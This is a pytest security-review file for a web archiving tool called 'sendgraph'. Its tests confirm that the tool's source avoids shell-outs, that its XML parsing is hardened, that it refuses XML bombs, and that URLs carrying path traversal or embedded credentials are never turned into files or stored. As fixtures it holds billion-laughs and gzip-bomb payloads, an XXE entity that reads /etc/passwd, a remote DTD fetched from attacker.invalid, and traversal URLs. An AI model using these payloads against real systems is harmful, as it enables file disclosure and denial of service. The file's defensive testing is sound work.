"""Security review, as tests: no shell-outs, no paths from URLs, hardened XML, no secrets in
output, nothing sent that should not be. (SPARQL read-only without --update is proved in
tests/test_graph_sparql.py::test_updates_are_refused_without_the_flag; the User-Agent and
cookies in tests/test_fetch_server.py.)"""

from __future__ import annotations

import gzip
import re
from pathlib import Path

import pytest

from sendgraph.plugin.feeds import read_feed
from sendgraph.plugin.pages import BadPayload, json_payload
from tests.support.cli import invoke
from tests.support.http_server import LocalSite
from tests.support.nothing_lost import ArchiveState, assert_nothing_lost

SRC = Path(__file__).resolve().parents[1] / "sendgraph"


def test_no_shell_outs_anywhere_in_sendgraph() -> None:
    pattern = re.compile(r"\bsubprocess\b|os\.system|os\.popen|shell\s*=\s*True|\beval\(|"
                         r"\bexec\(|pickle\.loads?")
    hits = [f"{p.relative_to(SRC)}:{n}" for p in SRC.rglob("*.py")
            for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
            if pattern.search(line)]
    assert hits == []


def test_xml_is_parsed_only_with_hardened_parsers() -> None:
    """Every XML parse in sendgraph goes through an lxml parser built with entities off."""
    for path in SRC.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"(?<!l)xml\.etree|minidom|xml\.sax|xml\.dom", text), path
        if "etree.XMLParser(" in text:
            assert "resolve_entities=False" in text and "no_network=True" in text, path


LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>&lol9;</loc></url></urlset>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><item><title>&xxe;</title><link>http://a.test/x</link></item>
</channel></rss>
"""
PARAM = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<rss version="2.0"><channel><item><link>http://a.test/x</link></item></channel></rss>
"""


@pytest.mark.parametrize("name,data", [pytest.param(n, d, id=n) for n, d in [
    ("billion_laughs_sitemap", LAUGHS),
    ("external_entity_rss", XXE),
    ("parameter_entity_rss", PARAM),
    ("gzipped_billion_laughs", gzip.compress(LAUGHS)),
    ("gzip_bomb_sitemap", gzip.compress(b"<urlset>" + b" " * (80 * 1024 * 1024))),
    ("not_xml", b"\x00\xffnot xml at all"),
]])
def test_xml_bombs_in_sitemaps_and_feeds_are_refused(name: str, data: bytes) -> None:
    with pytest.raises(BadPayload) as err:
        read_feed(data, "http://127.0.0.1/feed.xml")
    assert "http://127.0.0.1/feed.xml" in str(err.value)
    assert "root:" not in str(err.value)  # /etc/passwd never read


@pytest.mark.parametrize("data", [b"{not json", b"", b"\xff\xfe", b"[1, 2"])
def test_malformed_json_from_an_api_is_a_bad_payload(data: bytes) -> None:
    with pytest.raises(BadPayload) as err:
        json_payload(data, "http://127.0.0.1/api/content/x")
    assert "http://127.0.0.1/api/content/x" in str(err.value)


def test_urls_never_become_paths_and_huge_urls_are_stored_safely(
        site: LocalSite, tmp_path: Path) -> None:
    root = tmp_path / "archive"
    site.robots("User-agent: *\nAllow: /\n")
    site.static("/seed", "<html><body><p>Seed page.</p></body></html>")
    assert invoke(root, "crawl", "web", "--url", site.url("/seed"), "--delay", "0").code == 0
    before = ArchiveState.take(root)
    layout = sorted(p.relative_to(root).parts[0] for p in root.rglob("*"))
    hostile = [site.url("/%2e%2e/%2e%2e/etc/passwd"), site.url("/..%2f..%2f..%2fetc%2fshadow"),
               site.url("/" + "A" * 16_000), site.url("/x?file=../../../../tmp/owned"),
               site.url("/nul%00byte")]
    for url in hostile:
        site.static(url.split(str(site.port), 1)[1].split("?")[0], "<p>x</p>")
    out = invoke(root, "crawl", "web", *(f"--url={u}" for u in hostile), "--delay", "0",
                 "--format", "json")
    assert out.code in (0, 3), out
    stored = {r["url"] for r in invoke(root, "archive", "ls", "--format", "json").json()}
    assert site.url("/" + "A" * 16_000) in stored
    # Nothing new at the top of the archive folder, and nothing named after a URL anywhere.
    assert sorted({p.relative_to(root).parts[0] for p in root.rglob("*")}) == sorted(set(layout))
    assert not any("passwd" in p.name or "shadow" in p.name or "owned" in p.name
                   or "AAAA" in p.name for p in tmp_path.rglob("*"))
    assert not Path("/tmp/owned").exists()
    assert_nothing_lost(before, root)


def _files_mention(root: Path, secret: bytes) -> list[str]:
    return [str(p) for p in root.rglob("*") if p.is_file() and secret in p.read_bytes()]


def test_credentials_in_a_url_are_refused_and_never_stored_or_echoed(
        site: LocalSite, tmp_path: Path) -> None:
    root = tmp_path / "archive"
    site.robots("User-agent: *\nAllow: /\n")
    site.static("/seed", "<html><body><p>Seed page.</p></body></html>")
    site.static("/p", "<html><body><p>x</p></body></html>")
    assert invoke(root, "crawl", "web", "--url", site.url("/seed"), "--delay", "0").code == 0
    before = ArchiveState.take(root)
    served = len(site.requests)
    secret = "s3cr3t-token"
    url = site.url("/p").replace("http://", f"http://alice:{secret}@")
    token_only = site.url("/p").replace("http://", f"https://{secret}@")

    for fmt in ("json", "text"):
        out = invoke(root, "-vv", "crawl", "web", "--url", url, "--url", token_only,
                     "--delay", "0", "--format", fmt)
        assert out.code in (1, 3), out
        assert secret not in out.stdout + out.stderr, out
        assert "user name or password" in out.stdout + out.stderr, out
        if fmt == "json":
            failures = out.json()[0]["failures"]
            assert [f["reason"] for f in failures] == ["invalid_url", "invalid_url"]
            assert all("…@" in f["url"] for f in failures), failures
    for fmt in ("json", "text"):
        out = invoke(root, "-vv", "import", url, "--format", fmt)
        assert out.code == 1, out
        assert secret not in out.stdout + out.stderr, out
        assert "user name or password" in out.stderr, out
    out = invoke(root, "import", str(tmp_path / "nope.html"), "--url", url)
    assert out.code == 2 and secret not in out.stdout + out.stderr, out

    assert len(site.requests) == served  # nothing was requested, with or without credentials
    listed = invoke(root, "archive", "ls", "--format", "json")
    assert secret not in listed.stdout
    runs = invoke(root, "archive", "runs", "--format", "json")
    assert runs.code == 0 and secret not in runs.stdout + runs.stderr, runs
    # Not in any WARC, the index (reports included) or anything else under the archive.
    assert _files_mention(root, secret.encode()) == []
    after = assert_nothing_lost(before, root)
    assert set(after.places) == set(before.places)  # nothing archived
